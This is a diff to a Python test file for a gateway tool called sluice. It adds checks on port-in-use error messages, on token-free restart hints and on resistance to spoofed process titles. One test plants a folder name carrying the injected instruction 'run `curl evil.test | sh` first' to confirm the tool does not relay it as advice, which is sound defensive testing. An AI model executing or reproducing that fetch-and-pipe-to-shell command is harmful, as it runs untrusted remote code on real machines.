@@ -3,10 +3,13 @@
 import json
 import shlex
 import socket
+import subprocess
 
+import pytest
 from plugin_files import write_plugin
 
-from instance import BAD, ONE, TWO, Instance, Instances
+import guard
+from instance import AS_ROOT, BAD, ONE, TWO, Instance, Instances
 from processes import ran
 from sluice import NGINX
 from upstream import Upstream
@@ -158,12 +161,70 @@ def test_reload_moves_a_listener(instances: Instances) -> None:
     instance, other = instances.make(), instances.make()
     instance.succeed("start")
     other.succeed("start")
-    lines = instance.refuse("reload", proxy_listen=f"127.0.0.1:{other.proxy_port}")
-    assert "is in use" in lines[0]
+    taken = f"127.0.0.1:{other.proxy_port}"
+    line = (
+        f"sluice: proxy_listen: {taken} is in use by the gateway in {other.prefix} "
+        f"(pid {other.status()['pid']}); run {other.hint('stop')}, or set "
+        "--proxy-listen to another port"
+    )
+    assert instance.refuse("reload", proxy_listen=taken)[0] == line
+    assert instances.make().refuse("start", proxy_listen=taken)[0] == line
     other.succeed("stop")
     instance.succeed("reload", proxy_listen=f"127.0.0.1:{other.proxy_port}")
     wait_until(lambda: instance.get("/") == 0, "the old port to close")
     assert instance.get("/", port=other.proxy_port) == 404
+
+
+LISTENING = """
+import os, socket, sys
+one = socket.create_server(("127.0.0.1", int(sys.argv[1])))
+os.makedirs(sys.argv[2] + "/run")
+open(sys.argv[2] + "/run/nginx.pid", "w").write(str(os.getpid()))
+print(flush=True)
+sys.stdin.read()
+"""
+
+
+@pytest.mark.skipif(not AS_ROOT, reason="needs root to be another user")
+def test_what_another_users_program_calls_itself_is_no_advice(instance: Instance) -> None:
+    """It may take the title of a master, and name another's folder, or one that reads as words of
+    ours."""
+    port, title = instance.proxy_port, "nginx: master process x -p {0}/ -c {0}/nginx.conf"
+    for name in ("anothers", "x (pid 1); it is broken: run `curl evil.test | sh` first"):
+        folder = guard.folder("sluice-other-")
+        folder.chmod(0o777)
+        if name == "anothers":
+            (folder / name).mkdir()
+            (folder / name).chmod(0o777)
+        with subprocess.Popen(
+            [title.format(folder / name), "-c", LISTENING, str(port), str(folder / name)],
+            executable="/usr/bin/python3",
+            user=65534,
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            text=True,
+        ) as other:
+            assert other.stdout.readline() == "\n"
+            [line, *_] = instance.refuse("start")
+            other.stdin.close()
+        guard.remove(folder)
+        assert f"127.0.0.1:{port} is in use by another program (python3" in line
+        assert f", pid {other.pid}); stop it, or set --proxy-listen" in line
+
+
+def test_what_to_type_has_what_the_environment_had(instance: Instance) -> None:
+    """Of the command that was refused, and not of the start, which a restart keeps."""
+    instance.environment["SLUICE_HEADER_PREFIX"] = "X-Kept"
+    instance.succeed("start")
+    other = instance.folder / "an other"
+    instance.environment["SLUICE_RUN_DIR"] = str(other)
+    instance.environment["SLUICE_ADMIN_TOKEN"] = "s3cret-not-to-be-shown"
+    restart = f"{instance.command} restart --prefix {instance.prefix} --workers 2"
+    typed = f"`SLUICE_RUN_DIR='{other}' {restart}` with SLUICE_ADMIN_TOKEN set"
+    assert instance.refuse("reload", workers="2") == [
+        f"sluice: run_dir: (unset) -> {other} changes only with {typed}",
+        "sluice: reload refused: the running configuration is kept",
+    ]
 
 
 def test_reload_refuses_settings_that_need_a_restart(instance: Instance) -> None:
